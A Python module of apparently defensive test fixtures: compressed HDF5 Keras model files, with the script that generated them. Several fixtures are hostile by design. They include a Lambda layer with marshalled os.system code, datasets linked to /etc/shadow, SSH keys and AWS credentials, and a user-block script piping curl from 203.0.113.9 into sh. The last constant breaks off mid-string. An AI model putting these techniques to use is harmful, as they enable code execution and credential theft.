"""Small HDF5 files as the HDF5 library writes them, compressed; nothing here is loaded by anything.

Made with h5py 3 by this script, each through `base64.b85encode(zlib.compress(content, 9))`:

    import io, json, sys, base64, zlib, marshal
    import h5py, numpy as np
    rng = np.random.default_rng(7)
    def save(fn, **kw):
        b = io.BytesIO()
        with h5py.File(b, "w", **kw) as f:
            fn(f)
        return b.getvalue()
    def weights(f, names):
        g = f.create_group("model_weights"); g.attrs["layer_names"] = [n.encode() for n in names]
        g.attrs["backend"] = "tensorflow"; g.attrs["keras_version"] = "2.15.0"
        for n in names:
            s = g.create_group(n); s.attrs["weight_names"] = [f"{n}/kernel:0".encode()]
            s.create_dataset(f"{n}/kernel:0", data=rng.standard_normal((3, 2)).astype("f4"))
    def model(config, names=("dense",)):
        def go(f):
            f.attrs["keras_version"] = "2.15.0"; f.attrs["backend"] = "tensorflow"
            f.attrs["model_config"] = json.dumps(config)
            f.attrs["training_config"] = json.dumps({"loss": "mse", "metrics": None, "optimizer_config":
            {"class_name": "Adam", "config": {"learning_rate": 0.001}}})
            weights(f, names)
        return go
    fn = eval("lambda x: __import__('os').system('echo inert')")
    code = base64.b64encode(marshal.dumps(fn.__code__)).decode() + "\\n"
    inp = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 3], "dtype": "float32", "name":
            "input_1"}}
    dense = {"class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "relu", "use_bias": True,
            "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}}}}
    lam = {"class_name": "Lambda", "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config":
            {"code": code, "defaults": None, "closure": None}}, "function_type": "lambda", "module": "__main__",
            "output_shape": None}}
    seq = lambda *l: {"class_name": "Sequential", "config": {"name": "sequential", "layers": list(l)}}
    F = {}
    F["DENSE"] = save(model(seq(inp, dense)))
    lstm = {"class_name": "LSTM", "config": {"name": "lstm", "units": 4, "activation": "tanh",
            "recurrent_activation": "sigmoid", "return_sequences": False}}
    emb = {"class_name": "Embedding", "config": {"name": "embedding", "input_dim": 100, "output_dim": 8,
            "batch_input_shape": [None, 20]}}
    F["LSTM"] = save(model(seq(emb, lstm, dense), ("lstm", "dense")))
    F["LAMBDA"] = save(model(seq(inp, lam, dense)))
    F["NESTED_LAMBDA"] = save(model({"class_name": "Functional", "config": {"name": "model", "layers": [
      {**inp, "name": "input_1", "inbound_nodes": []},
      {"class_name": "TimeDistributed", "name": "td", "config": {"name": "td", "layer": seq(inp, lam)},
            "inbound_nodes": [[["input_1", 0, 0, {}]]]}],
      "input_layers": [["input_1", 0, 0]], "output_layers": [["td", 0, 0]]}}))
    def w3(f):
        f.create_group("optimizer/vars");
        for i, n in enumerate(("dense", "dense_1")):
            g = f.create_group(f"layers/{n}/vars"); g.create_dataset("0", data=rng.standard_normal((3,
            2)).astype("f4")); g.create_dataset("1", data=np.zeros(2, "f4"))
    F["WEIGHTS"] = save(w3)
    def ext(f):
        f["layers"] = h5py.ExternalLink("/etc/passwd", "/"); f.create_dataset("kernel", data=np.zeros(2, "f4"))
    F["EXTERNAL_LINK"] = save(ext)
    def store(f):
        f.create_dataset("layers/dense/vars/0", (64,), "u1", external=[("/etc/shadow", 0, 64)])
    F["EXTERNAL_STORAGE"] = save(store)
    def parent(f):
        f.create_dataset("layers/dense/vars/0", (64,), "u1", external=[("../../.ssh/id_ed25519", 0, 64)])
    F["PARENT_STORAGE"] = save(parent)
    def virt(f):
        lay = h5py.VirtualLayout(shape=(64,), dtype="u1"); lay[:] =
            h5py.VirtualSource("/home/user/.aws/credentials", "x", shape=(64,));
            f.create_virtual_dataset("layers/dense/vars/0", lay)
    F["VIRTUAL"] = save(virt, libver="latest")
    def user(f):
        model(seq(inp, dense))(f)
    b = bytearray(save(user, userblock_size=512)); s = b"#!/bin/sh\\ncurl -s http://203.0.113.9/stage.sh | sh\\nexit
            0\\n"; b[:len(s)] = s
    F["SCRIPT_AHEAD"] = bytes(b)
    def data(f):
        g = f.create_group("train"); g.create_dataset("images", data=rng.integers(0, 255, (4, 8, 8)).astype("u1"),
            compression="gzip", chunks=(2, 8, 8)); g.create_dataset("labels", data=np.arange(4)); g.attrs["source"]
            = "synthetic digits"
        f.create_dataset("names", data=[b"zero", b"one"]);
    F["DATASET"] = save(data)
    F["TRANSFORM"] = save(model(seq(inp, {"class_name": "TFOpLambda", "config": {"name": "tf.math.multiply",
            "function": "math.multiply", "trainable": False}}, dense)))
    F["LATEST"] = save(model(seq(inp, dense)), libver="latest")
"""

import base64
import zlib


def _file(packed: str) -> bytes:
    return zlib.decompress(base64.b85decode(packed))


DENSE = _file(
    "c-rk*%}*0S6rXJ=Y#K^RBz!31X63*Eu|P~r6AeU=nh-Ifi3uTPXa~AsyIXg+d`KES)`Wvc4j%Nz(Z2w$#CY)F(St{hUOXC{nVq3KOOYx>56tf}eQ"
    "(~pHy>|*>AZQJnYf>bUycI;RRv8T34%Ce*zOl)-oL<Fg|$`I?nJo0h4ytbeUkatqP|>U`X`SkCyDi82s}=v%WqX6aS@T39DhXGXH4e#v>y@eigq5"
    "E*)?P=7d$tRmt%h!m*;Esl9=eNAj8Bq(1EjZ1v${ot|G@ZYzymq6ormV9t}~2@1&XdjMiLE-J6+K02>gpBN!PPzBQBrfG;=BS`S&S?JSx0nlCe#V"
    "3j%8)N>|u-K+(RNKb3}EP7r>mS;dyAJp`mZ7mtgSih-r16MFG;Raq3*3X3<J+Mk;Z<=(694$gGSI8QqJL?u;iCE8BWz!tgM(43<-rJx$9Zwp1qa$"
    "QEcj}KC)+?1kEgWzHuN0jy={)Z%TZTubJA!}1oM)^;51$7yagbT27B0#z8ju)yP8nehJ~|8MjDd&ZRU0qxiqglTPnou3drvK6$##mNS-1%0@ei`b"
    "3dVe;0x*yIC;@&BrtOlTdeNV05qXZ0bJ;kouuGm%B+;`0*Wx6`^DrFSM9{GeYdPyckJzM!QmJ7)i5QE^Te?Gmd^#zAT29D2&bw_ve>eTDOQ&kz%U"
    "D8km4t+ZgoK2IgoK2I#P86~>kLfh^|Mx1xlr&8jMNzxVQvLk`BUo)@j!hcBGfAq)Q?{$@h_5~fqDh0CvbmJ!C#X4^Bic<dnj{xn!i$Deoa&#t6L|"
    "0!xTw2@U%MNLN5qJlelOI*9mzw`+KKo$Lk?HA2Vl+JNs~ELZM%&k7@@H^8EvoKX=MAYJ>;F`_;-$RKdSGFiX(FBrS}&z~?VepKlaJI0xRw0{jy@C"
    "!TEv=UW$Uq55cDUfj9r%j=*qUi_v>UX;9eoEO#Jf6I&Sdc^N=pUDST<QX->i{bsM@nVAVqW|($BgQ}F#kK(ds8p{A{KMyw>GS1+))@cXzApJk^3U"
    "=2+o~qog<q7;`hFYcAFWUH8_r{i`r!97zHtf|@Y{%TbSLC@&H8dT9onv4V{fAx=u$z~%cK8eD(#O%e1|H_kf`#iU(6Ve_5Zpb;k+8qWsdv}dhWbW"
    "-}te8_tV_g?w6mry|*6^cDKG(_I?2iRDHD"
)
"""`model_config` of a Keras 2 Sequential: InputLayer and Dense."""
LSTM = _file(
    "c-rk*O>ERg6dvy;jahBdMU6-(G_@8)P*^QaXeElopPH0Cq)-u%f)H|@^&~sOKZ`vMv?%SVQY!Vpp@&{7wKt^pz^Q7bid=i>fg3$msw!1n$Ppo=Fy"
    "om?Jl<WhO``sY`7Yym^Ze#{=FR8l=g(`C@AVg6F8~T%2R)z!(pck|t;&5d{vmHQ-Y)a@ZcfPilCfbfFLC=up7k4Ce(B=W6xCkKK+IDcVyzAoUPjc"
    "W&VE4KS>6}%^h-|G^8yFD)=h{O8aPVD<(VzcE8=zeH963WpvJocV30)Rbr{-_wFtuq1wN7Q)wJZ!()umBbWUEOHuD=M&%JwLS_Axsj2^{Ab^PtB3"
    "4nOq0&g+&qad7jgPW|+O@e(~@pifH+EHZrwg<~6jPeY;5kns%+bvg&ay{_p(E^d*E(?W7QgH2$$RiQ?)vTc@Zw@*R@)tVTf$4GNH)Cu$$Ri`;rb#"
    "40j5kEbiD1sg^@hb1qlVq2My~p?>sE{j^V-r<#mIUvJ#*>(4wJhP_UKUTBTT)2i(K1vj23N7wufq9+iy^f5Z2=`BoA!K;}Kf$0^~3i9EZNe7N!oV"
    "y?NV>U^|~C$#%dFPB~&scs0@DRS4ZU(TJcmhis~Z!x$0?i7%f7HX^r@twA5dFtIJqe$EZT0AKded=PpWFCqvXazR&giGZwV5+6N0UYbC}iyK6A-m"
    "=G>^&k#WJ>s|0ooiy`Q3tG)b=i-zj-8#}g?8wZXs|*XQysHvn&ZTeUOumAlSN9!z3`9jC~f;TiGRJrx!J}0{V97#*`l5>Q}zbZexwz|`>v?CSV2K"
    "SK|w)5K|w)bd)O`N44L{_kykD>@?}Ho40Cq<I`o}Q>kEZceIX~+EBX^VtWLr{&_EaU3R+JP_VSXwQeqE>HcGzlxXI1zHB<ieB=X+2b;3JbU})Xd3"
    "7h*>olw;YTkC|Ydt^OPPZ0Hn?bZor&R>|+l2gjCJSf-k?(zPEJ!+4-;lb>B75Se6ja&_qT}=v;Nx>-sjK4s8zR|RG4otT_DgL3gqTW=$cZYbl5A1"
    "B6SWo2nwmkXc8?1i|bjOpchT=)ZlN&rK{`w8?Z_kq=9&6j2m+@q7eZIQ~WuAP%`>TiK_`J7Q*87e3pX__Nc`~~WMZTjf&l?8pPuK=gZpM>heMQ@!"
    ";-6iKT$A`m_%S=e`N!yve`*I5|0w=x&C|XzWWDSkn4Qkk%n{jcHjWkALwv7^h10-c*5<VJZ^U%I)!H9UZryFX$^Y>gU`Pi;p8}DC>B)F5#|-K`Lh"
    "{<3gL1?O-1=A7BO6!8%PK~;f&*6;PgcJ8?(`?QXZLSB99jAD*Qclc{ON~No$}ts=-<nGzZp~S9rfO6&3j9uvR<|>u-&{@<Vo55cBk{TfmFU$ctO6"
    "VGr9(c$GST=Pb%u%sB_bruhqu>*?jHyQQ2-bjurlE`P!N4{~=%d>xhbxt-$-^;mOfs{>o?HKK|KR8$bQdtKYADJ^kqZb4hgy_y"
)
"""Embedding, LSTM and Dense, as Keras 2 saved them."""
LAMBDA = _file(
    "c-rk*&2Jk;6yLRz#tKPDMbxxV%4+GMh$uKtfusn8V>@=R<0MT>Qip20-W}Vk?1!@-agt)eF>pfS!Vw`M_1Jq=a_x~n0f|ecUXVC(Dl@Y)_U^`3O<"
    "Tc%`APP8-n@D9JnzlVp10o=vdiP6ua9yFi3B&qO>#jzCHUcTxKGFLkd`OyF=_9`sC)#EohR~1Vqb{+{RWZWxSq=)?WYmYbqdpdo8TD!k0|8Q>!{r"
    "(eVR{?VqrbQQh_eDfL3p~P9QHoea>}hz8=38PV_OZK)Ms$6wJz9V9SoQ4{S%XOenv=^LXZDXG$V;PR<~k@vg~yX060?WI{v_AvHVq{%n%t=+_-3t"
    "qV-YvTM54^83Uj_a*soS5$P_aU@eVfOt(1H^H6<Ojnb2aYhgo%dBa2D8DOG1t+AS%ZKnQLHSP9(2Cjg+!7j&7^=#y(vUPXEIAFiiL`f2PuFLJ`P)"
    "!cbq}#jgig!ud<spcM*UfHV!J&fL>DZ{Mpc#jc&&E^Yo4jNFa~%yY(bKIHA#wCQDD*_g{!SxI*e8HmPKz1$y@L}vz;z%EQM6^8%xbPoL6)L@=QIw"
    "k?xC1x@e&Bz2JJwtLfrKc`a4{Y+sqTij}RhRXtp4R*laO)y!@tRd3d|Q@X3<7Z26t#agOfIRe||WMwPaOsm!sD6Hc3SJthS^+GwR7`j(E`tXBH_Q"
    "1KdHK$ebxp$Sif>f}ca?nD4!U@T}-Q^qCGY$JDd~Ij6!e&Ox*GuJGv9!2REM0})y@fse_zM$loC<2Pr@JUC{IJ4pwj9p}M1X?V34=tV-Hi}DqMl9"
    "yV#u25hr{yRV8&2G(HLf7zJoqVpwcnV)UbOg_*sT-?8_u0L>uTH)^LDS)nugP+8%%scz{jF92%Sob6-1xd3`#A^15YP?oCsxS+)`J!T~_-INomGZ"
    "nx3-8zSei$<gx&_X;g58osXvaBWQqY^K$8H3O|L1v50{Mp~7ltLs3vP0g%Jw(KIE<ZLoI2i+JZ>(UnQQGi$a@yJLY{-M9W6G40L`I~nw+2zfJSJ-"
    "bB0|NsC0|NsC14BQYrFDi#{cMa>E_nFQ8`T-Ava$<I^_lgB(LjA67OGc_V>^DG#J@mr1Jo-}J%QSbhwM#ad#(*{a_Ig+Og_tAGvMD4mJj!=6Mjbo"
    "ll)+H!aEmPosiWDyLCcZ&Hm$DSdZR=X+9QSaNW)FT9(JB)W`8uxQ=(9^nX3aVl)U3M)zxsM3jf0rXWk;!Xz$;IGoR4TyMVN`A{7AKs|)=&+tp)*)"
    "uP>E<A$e@t(YR?@hmdzzxQWzX^;N884pZ#l*#bmluD$5I%>GNdNI0EJlOyVsyW{yf}_|(SP#QCB}csixUC<Nnkl2;vecq;ga8P2!rv@!rP3082_A"
    "petRs0^`cJ_UiA5Glz)UvVY|^hX6OxiKcgGRb65N}#&_<7^sd>ve;!XgE4)RXi3!|vf}8%T^M5RX$73<yV1i^wod5cAIAbUd{?q-4=G7IE<;e3Oy"
    "YuJC_pknZ^4G&BCl4Mpf4TqBPbcsE{_Q7!1JX<%5&"
)
"""A Lambda whose marshalled code would run `echo inert`."""
NESTED_LAMBDA = _file(
    "c-rk*&2!sC6kj<>V=_r5g-p{zDZ=fcGh~9|6lgkAz;Wz2*m063kkrAW%F<dEktN5Hny>M|43{umxWSQQj{F0B+~|=R{sC_E(i#4Pvb)-~CB>e)A4"
    "3o9Z)~mi?c28>@9odh(>J-r?AXZbBLE{F2ZLY&1o4>Shil<FYrjWJftDw<JdH8=FloC;<rCDtIN;Z7RK9s9lfl}LBVgm?ru;GvIR1~wWm0Rn+@^I"
    "FPY+^Yy}GSIQ{IP$UUQv5Tz>qF<Fa@?c`Y31qaa7C<6sg+<t}V0j(i_B9mBSe{E{G$o)hgZ@z6OrhiwjYOfIEY3j&}WB6=9fnc4SdBmmfQM`-Cn%"
    "dwkP)86;%)FjXc{qi`Wnu_DdmQsg_TVf*XS*nYssF;aqF`?R4)zFdrIKdRi2I4kTIYg^LqMfLXWvk)21>795QBhpACL6d}c4|rkYwuW|X-<oCWu&"
    "UPheVb@^HtorB<{|P`n_fotuC@@{Ig<vmL^+hdSp^%q!^vprcsBBhT}GkiswQtXx`O&tk-WKizV`~#SOUULCZCIZkH2Mcv*YaWiJX!y`m{SW^J|`"
    "t27?EtX-CUHCc{WQIQX@!j1h*DvT9;S;Uu{(p_{-Z>MtW3n7)I^@WCx`sJN~JgukJQ$0~i<?Fb8FF0OyC6!+<t|s+Q?yGZlzO+@eD~Ah>O8v7#Ex"
    "nsg>W%7l(sb3O`9m!`Urp+zBe-3ZN?TGRrP&KGw?f8WUbC0iaz#n4n_lVYgZI;m2hQECS);U+c}LY%tU~nEgMB<t)Ir+Y&2HXF*P5TA?{?bAZKRD"
    "Qy->{L3-jyw!VR?ceKNz_pIdn2G+0$U)5THYyA^G-?RZT{1=x9QH^|J}9S@-c>6z3ab;YoJci5gAj2PcgxkZefIV(Fmfukgm&vC0<F1O0lEQmUh8"
    "`UkBJHrLF$ieXyS}j271~dTU9kfV?5Q+oIG9WsZYG4=ahHKP~BiNLKp%se2l%~`pv1dZ1X&II-Hx(D_NHdZ&i<Uh^$7Q94co7Epvlm|u_uyG}pD`"
    "Y^_by_23!1m2&i}*O2>);9;Nalk;NalkczT>?d4@>-Y?Nj$1awD=^9&V5-G!F+#QefYAiod`<txUB9Y0Uv-&lh_@)bCr!0Zi#>`f4RZWBG4;QMlF"
    "@=5j@f%y#*`B2w9;dfLpA@r9gymy)B33;BdlP6@^?0+tV_1N<vi^tq^j=ND@T@=VErFrnla31d`TL0q$_fbDQ7~QW?>QMpxnnWx?G7%(E-~gY$Kz"
    "F_ogpePEK%Ri{&(I6v*>f*AFFZ`-16_IX^i98h0Q%#_zeLW9oEOjXV*K)d%Zoo=3ZKIVwEpl7?xTKqF}hzJUK}I5=)d{u5aZMG;&_06;zTZl_=n9"
    "Scg3&Q#Qyl_=2gx=oPW-~zdaGddeIE~^S-~0@{f2WY&ROm9Nod5&)CKZ;JRPNg!VHbd)Dk;zeu{C7vG}qibOCK2UB0R@5kb#Jr?r~#%Y8M2wz<bM"
    "-0QkOWluXTwPD_7<m@#d@X+X=NBLS^8KrC|MvUeul)MxH2d?n;}38D3mUa#!T"
)
"""The same inside TimeDistributed inside a Functional model."""
WEIGHTS = _file(
    "c-rgqaB<`1lHy_j0S*oZ76t(ZWbhvfZYZPjVe$!3nh{EOK<O1sFmXn(oCH){5NbZUx{x4OSCH!eXaHu<16Byl!7vI&BJgl^3;@v)P`(0`KEZ^lF2"
    "A58GdHs;wFt`3NvupQDn_JF3li<cm3}>#A^Z$h;?nO6&e8Ncntl=K7gox4u%fCfO9Z7>M0)k0(B5D_e-}muCV2Wa;6^R4BcS{WUexrdz>KO6J-v@"
    "KfU6t`V2AJvIFZW%2At)<C>SjVkjnvBew)CFp57oJfJ*j4$^k~WeH!d&_MoNXQ9xQbfL@LgY7cA>K&=Nx!N@KLVCiWFFRHqf)V$(U7#(j2&#w+tP"
    "QMa-(Dtzaap`x5$Y^_ZH2q?>XCnmY)1HN;yAQmm^%#0OhPSgNQPpjL@-Ik_)?>)!fPxUTd=Vk891sv6t;a^o0nB<VK?GHu0hBgGYu`FhR1P58vp)"
    "n;%|%bgqX1VqzzPX7Mi^fMLNh@Gpxu53*f1L=UjnREP(hx71rqWM;v5X(^-y_MU<`renV293azIlEGh>7VYKnn@iUAD|^!kNC48M9<xmO@DnwF43"
    "?d`++Mdp0jXVp-(|0}=${`S-D_A_?*?Z-@Skbq-kWJF0<l&7x-N$f4ujv-YaqqkEC)yEw2qwVt1`WUla{z00y?Q&e{w?GEMpCCtE`b|(AZBLG-U("
    "EL8208k+Cp~0P%|%bgqhPSLCs!y9h4y5C0&(rh14^T52^mzIvhGbtPqM$BCc6LM;U|09tRLC3E@-l)UwiU`@=$6|0s!t734s"
)
"""Weights as Keras 3 keeps them in `model.weights.h5`."""
EXTERNAL_LINK = _file(
    "c-rgqaB<`1lHy_j0S*oZ76t(ZWbhvfF0i2TVe$!3nh{EOK<O1sFmZOUoCH){0BXJhGlU-j6%Pq=bwxHG-JVe}vVn)IV*qk`;egU7m{8Th(qRCV?1"
    "iP*4ruy!K$GVJx`Yvl&&HqtaR-M3TTWtSYEdyi1A~5QNwR)HVsUYK3WGk(ovaXjj4(bVhcGfi1Yq8R(ab=3kc^;$JOjij3Jl^L4C3`rc~+=9n3$L"
    "tA>jitkD2iV3u=flpykxT0hr(=1ojeu4HiBOY}u(rd8s)S%vj9<05cOuA^"
)
"""A group linked to `/etc/passwd`."""
EXTERNAL_STORAGE = _file(
    "c-rgqaB<`1lHy_j0S*oZ76t(ZWbhvfP6(p%Ve$!3nh{EOK<O1sFmXn(oCH){5NbZUx{x4OSCH!eXaHu<16Byl!7vI&BJgl^3;@v)P(Cb`o?t>%my"
    "=kTT2zckj~*1-i!1$lFhlqmti+|?7o4N%cQpNCrr!=$RCOt-dBv#=)Jwm?e*P|?6bwsu3e2eGHF`Q81*DY&0qhWd0Vi?gzz5#Za$vL^z$^zQaH6U"
    "!O9a(ov?~WR*ip*?^mIH5NGk^-xFP%sUgFAu27%FXV6+^-EC*)rqN+1M>t9j395CQUH6J}4j{;of02?IC7-4)!iNMGR5paO2gVD^u7-odVGb2*YX"
    "9dzAJ`)oYSeTtb1I%ZHmNgzY$_bdc98i0i8DS-i1DeVNx~69dwDg*RI-J0upIVZvU!0Mcl3$KBJzDUOrY&*+0BEp@kN"
)
"""A dataset stored in `/etc/shadow`."""
PARENT_STORAGE = _file(
    "c-rgqaB<`1lHy_j0S*oZ76t(ZWbhvfE(oIXVe$!3nh{EOK<O1sFmXn(oCH){5NbZUx{x4OSCH!eXaHu<16Byl!7vI&BJgl^3;@v)P(Cb`o?t>%my"
    "=kTT2zckj~*1-i!1$lFhlqmti+|?7o4N%cQpNCrr!=$RCOt-dBv#=)Jwm?e*P|?6bwsu3e2eGHF`Q81*DY&0qhWd0Vi?gzz5#Za$vL^z$^zQaH6U"
    "!O9a(ov?~WR*ip*?^mIH5NGk^-xFP%sUgFAu4uR2fV6+^-EC*)rqN+1M>t9j395CQUH6J}4j{;of02?IC7-4)!iNMGR5paO2gVD^u7-odVGb2*YX"
    "9dzAJ`)oYSeTtb1I%ZHmNgzY$_bdc98i0i8DS-i1DeVNx~69ZwDg*RI-J0ur>74>#l;!=nJMw9DMqHIhL%{;r3L?J8Y2e)0ER$|L;"
)
"""A dataset stored in a key of whoever loads it, by `../`."""
VIRTUAL = _file(
    "c-rgqaB<`1lHy|K;9!7(|4<Mi4B;C<#gBf@PW1P131VWXU=l)B2m@S942%p6Y=R6xiY+IxGPS69Gt5wD25JD-l9`#rI6(m91lE+)yy8?dMyOsFs<"
    "?o`YW1UhVw}Jaaso?PVo~u<m<wE~;{t}h=(m={IDrS`1V#fJCa69S2C4ze(_3o6PEb70z?zMW85kKw7#Nrs85td*YGE`p4+A4GVi+L7!NI@^bR{!"
    "42Ok3i3v&cBL=9MO55tfK*BLfTx;y*(fc+wX<S!rygeigv=x5~Trs|g#rxxk!C6*WKCl{pxlWj?6Vootb1p_mZN)Q0WBv_1z5o!t}FnBYcN*1BHp"
    "@W}c6pVsVFbYP&C>RB!U=)mkQ7{Td!6+C7GzI|s`hI8"
)
"""A virtual dataset out of a file of credentials."""
SCRIPT_AHEAD = _file(
    "c-rk*&1)1f6wmBhJCwGpSgapa$5F&X-H#SQ3!=qVR}d9HK&Y}!chhcgc4nPq`=KuCt=>EedeEB}!T-RUcoI*Z#giA&gLlnmJ2TzdRf~e=cgen&_g"
    "*r|%a6^=-aWY~?B__etK0}Z=OA&al-5UbxuN`UHlHmNhO<X<gu)q=B~|CP!wk_prcS;K82kgcUmQEx)3sghrfq`_AR{|cviYX)aDQCZ{*$V;RJ*9"
    "!XDO}k6n$HjKBMA0X(?Bg{?di<ac=!B0X<H!U$(Z{vi}mr@zL|Vy`p5DPp?yPyIN2|UTF^DnJOibygdGk<LZ1}+#FBzZctQWFX&@gc^!q2lx9&#a"
    "NsljHp>#8nI#uHc1||(nCaz^r%s$ZV*%xmu;UoY77k_eOUDvu`lZMxK{)LNb5d3z!K?~!%Po75kdhB;$Q^Oqi|9rJ`4mIX9dz7s;7{WjroZKC0}?"
    "av-~#(3rk_X#I_=jR^bGG#1e$`hTrFYVT_ROj=hhQ`!}A86;cLvaLKlS2Ws`<<c!;~}pwg@0Hk*S^a=<b6rD&B&S9D*)$COWZi2a6Tif18Z`@u~@"
    "<TZo^L8U1Sxe*N;h-ui?`7CEJb7fzRZ?Z2MSuy%4F9-vA*~imCSWC=;AXH&L_%}8gt~Hy0@u)-{=zZ`4!UuJ0a;7yzLtG}xk12vW#Wg;9DH1w9iO"
    "~v7j_n~B`q-Z-g^+Tad^Vpiut{{Nadj(JD3VXB<xl4-d8c`|HySS|mu@7#d|r<C7_KrfFfcGMFfcGMFfjNLHt9Npl6C#8TU9PBb_3&ehACLSj{M4"
    "+^@XlTeIXUASM-QDvQ8o|lAw)x1+ORQc<ETYjEF}=h{Zirg<LCMJu<%yLf_G{PWV76GRkqSI^pC1h>T|Nzad#CROK}AWlP*n*F$tZ7JqZxi)YV`S"
    ">lvREcSs|zQ0iN+bw2~+Tp?EdUdNEwb-vd#uB11DGFl*Nd5w?`Npzh`=Hy72>*1f6VGl0>suG@6#8^aUVOGw%JZN-UVQHuUNpS8k{9iPKg)|xw#C"
    "okYbAf&VfLsUUQDjnGB5TBUX(9i%f$Gzyx1GzA6w|H82{*b6n9Cv>a@o{hxZ!(G5oXg{dUob+a+I=e)s)0$v@7nc-&+j8?=VLpXr6OzyaB&tff1l"
    "zH7FYw+h!y&TjQK>VSS5^xs+fKW2;mR7wW4RfeRkyZho9qcQ(i*CUx%2V9dQzk;W49>2t&A07Sl>G`pD_N$loz|~_Pg0Dxv14Q4B2>"
)
"""A model behind a user block that is a shell script."""
DATASET = _file(
    "c-rgqaB<`1lHy_j0S*oZ76t(ZWbhvfrfH(`Ve$!3nh{EOK<O1sFmXn(oCH){5NbZUx{x4OSCH!eXaHu<16Byl!7vI&BJgl^3;@v)P(Ca@onS&$S5"
    "lOinFplv5_40Fk<z6Dnf5X=Fr%bj0ciSVlR!=Xgwn4C2TcDc7)`&3^whzMsxC7(F&&g}a}twMbBZZXzrlX~E{qIJ@N}1^fnPnWd{tmZE!RDu{0!E"
    "S8GnonY>=>Egz+sPG&4ki1ugtwG%j&wV2m(A%L7Iv8CD<-;xjQbfrYsl6u^8&xV;?U8Z{*~Ehn)g70G-Bh`CHG4V(}mCa9qtNYO|^O2VG5VE)ly$"
    "FCli{;r9QmIcTFRBwR75xw5%CQ|<aQ3wrF&qP4IH(K~J;Ygp1qfs*oM!_f;1*2dTjDk@x3P!=80~K+M4Gi`F=iFNtvt))e|B9p;L6&NX7t#_Y{Y;"
    "rwFspD;_nOaY{RPpsylIyt(!YH&V_ePbQ+H2%MZ4nl>(w7-J^M1zUA5nE{~Nm=9=(Kz-xp7r$RGbJ!_0Oo=lA;)$`5r{1{Ln-W7{5ghW)vG);H<p"
    "J99-^^X{z;=bPrf?oQORmiEIZpZ`;1_IG55IwkX+ALFD0d(SOVx{-C`{CDO%3#w0jY7*ONWoc;iB1T#_CBpyXok_pLlwHL>nHL)W(rEtF^7P5!y_"
    "2V0&iQyhK4aT!2|@c@&6ciD`y5W3UAxAAo6>?;-+e;nrtUJ<<|#Mxd3pZYbeVlKpI7NjFIf@qC;#<8ne~Fqh2na<`PXDH9J2W1)XE6#N2B)EA>%E"
    "KjHtbJ7WCdY2doF=fZ7{pg7n5Ypyn_$J`;zIlc2@Ngh4)vf!gbX4(h;1<<UoZc%b3H$iU7Z0`z@xerZv1Dg%QgFdPN2j9xGz_4d;w5O%sd`};5=4"
    "FfQujS3W3=9OfmmSiR?q-3UNmK3AAFF!98g%69js??%<WdAMTA1x6^!6+C7qhJ(_f>AIEM!_f;1*2dTjDmq1cfda$1MBZ2`u!4MrIL&cSjQO<<1!"
    "3r<1%H?b&3jTF6bCk;Q<=IfQ^qZLotjG3IhNZ6$Z}"
)
"""Images and labels, compressed, no model."""
TRANSFORM = _file(
    "c-rk*&1(}u6rWA{v4plnEd9`0*R_WpN=#b>=|L^_BSNuaD+;BglVs8?-R#EQNk1$>kM$sU5d;xDR!?3$O0PZY$%7Y<UIg(Us57%O&F(g#u`P-?zs"
    "uykdGp@vo3}qQZ=a+lrrKj?Vt_(bK@*4rKlV6Y3<PB{zr;s{k6V1)jtG4#o9p5FIQOqbJ-NX3^LHjEsr6n6B2KE?8&x3jKO!|bew&W>xh(2wHxjf"
    "f+BsyV*O0MXz^<<@uOBh4sMoF2!9s5XDK2(^PEwUC$boKp6*;b9TSVWhC~ReXe~B7+Pg<zYXw~KPjoBFm@C6||ijl<d<wOzy@whQQVr03tlQ-=(P"
    "v$PcckW<Q&zjJ6(-tfueN5Bm(1S9vumMedNYk^nl{c1&ep43)Zot5V8|0CQej)7Wrd2BA89E(ulz})~NE>uI?G|8(S}#~-(;U)97l~;OZ!n!sHVy"
    "IU2wg6mdaH)@N@Yk32b`apEzQ7UCI{>69On~7hzp5g*~CW4+@NOpvX#Z;MCkm1N$fzwf*F&p&O_5hwZcx21fx0;b7HP+8JK2ig#3mi;3^bB9b}f7"
    "g^SV|15zXGlo8R8im^zk8e}O+w(*c8a_m6#Y14LWeAhDawo?r4!bK=Ye$dob2o@_9a^6k+{7XQbziGQJdwg%JMT8wA>+*#}VVAH`q~X&(-@#ps=U"
    "_OviJ)T{)^gf`nA#*0$>cEEMKg~pMwTL99oMVd);jer_`bvM?~<3hv1Ii<-EET`DIp;tAt50lAt530Z{U>ZGlcqQZM<`#ked+gGh|?P1zEX6`wKB"
    "&e<2d+SF|%fUZ2Ff(18Z}6||oq{6z!);>;hrOVj%xcX^n<l5c-aOy69yPxy>0;!0zE!lgdhCzO4{YM)Savww62?L=Qf)MM(Hap!K$PAKdx^{~|$?"
    "Bl)T^2aWDMvd@bIA3l2L>2O@lduG9OtJ=*3q1Y;wfRO-0_PycW*`4FpAgTsfRpVDw=#XSCNFNE^W=5V7%zU+Bri%{Jjjb`-=F2h*S*2_aF@&9&dM"
    "`tgcrm4s`6qx<3;bwSCtrlmlr#H{G&3x65t=Pk5s=W7qrIs=gLLNKazhAe!tz)f_C9AJIDQg8|ELaKj=4H#}c(6?q?!#3K;aph_Zht6nD+qat~X2"
    "N;}WLQEH%D1>KMK|BtC`J`(X9s=Pv?%Hx4x#R#nb)qI5OYEYLoauig)Jlz?8^K$3?&$riJeNuKV+<SiY^K$INFF$pqhX"
)
"""A Functional model's TFOpLambda, which calls a TensorFlow function and holds no code."""
LATEST = _file(
    "c-rk)&r1|h9DlQ$+qmt@sw-|vv<*RrL{}xKr7}^{N)r?>i7e0Er#_sW*=F8qwk$$)s7p}Nr9(u=E**r30=o%af(`{80t-4t{RKh2@4PoMySn!C&|"
    "yBX&dm3Hf4%SfKH>YhIXrka8g2^*RTa7TF0tAozEe{E_3g^%vEjk-0J;*3A+#0~;*WAU96$;}u##vJlC)fj^dS^P4JeNGAhbX%Y-bjUWmD5Y`xOO"
    "&ANVPbvWf!yZ;1caq`4yxI<E)rY)%XfjEy*=m}gm<0D3yRk9G2#18!dO$%tW_)~s$WiSMA4FG>d`EvsYO&KNjPv~*INAeW28U=-_GM^ek0#w?xV@"
    "{;B%*cA#oUgmq^@~LV^=Zr#;jlgo1qZ!Py^BD@u8G9ZVKzqt4>Uu}Acbco_*s>$jc+!~l_JFzTR9JOu<#I=|I^ZDRDXEck&Rr`SltH>Z{2gZ*UBr"
